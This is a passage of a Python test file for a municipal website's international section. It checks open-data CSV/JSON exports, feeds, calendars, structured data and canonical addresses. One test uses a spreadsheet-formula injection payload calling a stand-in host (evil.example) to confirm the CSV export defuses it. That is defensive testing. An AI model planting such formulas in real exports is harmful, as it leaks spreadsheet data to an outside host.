        documented = re.findall(r"^\| `([a-z_]+)` \|", section, re.MULTILINE)
        assert documented == [column.name for column in dataset.columns], dataset.key


def test_a_csv_cell_never_starts_a_spreadsheet_formula(client, records):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    OrganizationFactory(name_bg=formula, name_en="+SUM(1,2)", description_en="<p>-1</p>")
    dataset = next(dataset for dataset in DATASETS if dataset.key == "organizations")

    row = next(row for row in csv_rows(client, dataset) if row["name_bg"].endswith('"Click")'))

    assert row["name_bg"] == "'" + formula
    assert row["name_en"] == "'+SUM(1,2)"
    # The JSON keeps the text exactly as entered.
    exported = open_data_json(client)["organizations"]
    assert formula in [record["name_bg"] for record in exported]


def test_a_negative_number_in_a_csv_file_stays_a_number(client, records):
    TwinCityFactory(name_en="Lisbon", latitude="38.72", longitude="-9.14")
    dataset = next(dataset for dataset in DATASETS if dataset.key == "twin_cities")

    row = next(row for row in csv_rows(client, dataset) if row["name_en"] == "Lisbon")

    assert row["longitude"] == "-9.14"


def test_the_calendar_names_its_own_address_whatever_query_came_first(client, records):
    calendar_url = url("international:events_calendar", "en")
    get(client, calendar_url + "?utm_source=somewhere-else")

    content = body(get(client, calendar_url)).decode()

    assert "somewhere-else" not in content
    assert f"SOURCE;VALUE=URI:http://testserver{calendar_url}" in content


# What outside validators read: categories, undated events, one site address -------------


@pytest.mark.parametrize(
    ("language", "category"), [("bg", "Програма на ЕС"), ("en", "EU programme")]
)
def test_atom_categories_keep_the_kinds_own_capitals(client, language, category):
    entries = atom(client, language).findall(f"{ATOM}entry")
    categories = {entry.find(f"{ATOM}category").get("term") for entry in entries}
    assert category in categories
    assert not {"Eu programme", "Програма на ес"} & categories


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_event_without_dates_is_not_marked_up_as_an_event(client, language):
    open_days = Event.objects.get(slug_en__startswith="open-days")
    assert open_days.start_date is None
    [data] = json_ld(get(client, absolute_url(open_days, language)))
    assert nodes(data, "Event") == []
    assert "startDate" not in json.dumps(data)
    [page] = nodes(data, "WebPage")
    [entity] = nodes(data, "Thing")
    assert page["mainEntity"] == {"@id": entity["@id"]}
    with translation.override(language):
        assert entity["name"] == open_days.name
    assert entity["sameAs"] == open_days.website
    # Nor on the section page, where the municipality lists the events it attends.
    [section] = json_ld(get(client, url("international:section", language)))
    [municipality] = nodes(section, "GovernmentOrganization")
    assert all(event.get("startDate") for event in municipality.get("event", []))


SITE = "https://starazagora.bg"


@pytest.fixture
def one_site_address(settings):
    """The site named by SITE_URL, asked for on another host name it also answers to."""
    settings.SITE_URL = SITE
    return {"HTTP_HOST": "localhost"}


def test_feed_ids_and_calendar_uids_come_from_the_site_address_not_the_host(
    client, records, one_site_address
):
    for language in LANGUAGES:
        response = client.get(url("international:changes_feed", language), **one_site_address)
        feed = ET.fromstring(body(response))  # noqa: S314 - the site's own output
        ids = [feed.find(f"{ATOM}id").text] + [
            entry.find(f"{ATOM}id").text for entry in feed.findall(f"{ATOM}entry")
        ]
        assert all(entry_id.startswith("tag:starazagora.bg,2026:") for entry_id in ids)
        links = [link.get("href") for link in feed.iter(f"{ATOM}link")]
        assert links and all(link.startswith(f"{SITE}/") for link in links)
        response = client.get(url("international:events_calendar", language), **one_site_address)
        calendar = Calendar.from_ical(body(response))
        uids = [str(event["UID"]) for event in calendar.walk("VEVENT")]
        assert uids and all(uid.endswith("@starazagora.bg") for uid in uids)
        assert all(str(event["URL"]).startswith(f"{SITE}/") for event in calendar.walk("VEVENT"))
        assert str(calendar["SOURCE"]).startswith(f"{SITE}/")


def test_pages_sitemap_and_exports_name_the_site_address_not_the_host(
    client, records, one_site_address
):
    for language in LANGUAGES:
        path = url("international:section", language)
        page = parse(client.get(path, **one_site_address))
        assert page.find("link", rel="canonical").attrs["href"] == f"{SITE}{path}"
        hreflangs = [link.attrs["href"] for link in page.find_all("link", hreflang=True)]
        assert hreflangs and all(href.startswith(f"{SITE}/") for href in hreflangs)
        tags = meta(client.get(path, **one_site_address))
        assert tags["og:url"] == f"{SITE}{path}"
        assert tags["og:image"].startswith(f"{SITE}/static/")
        [data] = json_ld(client.get(path, **one_site_address))
        assert "localhost" not in json.dumps(data)
    index = body(client.get("/sitemap.xml", **one_site_address)).decode()
    assert "localhost" not in index and f"<loc>{SITE}/sitemap-pages.xml</loc>" in index
    sitemap = body(client.get("/sitemap-pages.xml", **one_site_address)).decode()
    assert "localhost" not in sitemap and f"<loc>{SITE}/bg/" in sitemap
    robots = body(client.get("/robots.txt", **one_site_address)).decode()
    assert f"Sitemap: {SITE}/sitemap.xml" in robots
    export = json.loads(
        body(client.get(url("international:open_data_json", "en"), **one_site_address))
    )
    assert export["documentation"]["en"].startswith(f"{SITE}/")
    assert export["organizations"][0]["url_en"].startswith(f"{SITE}/")
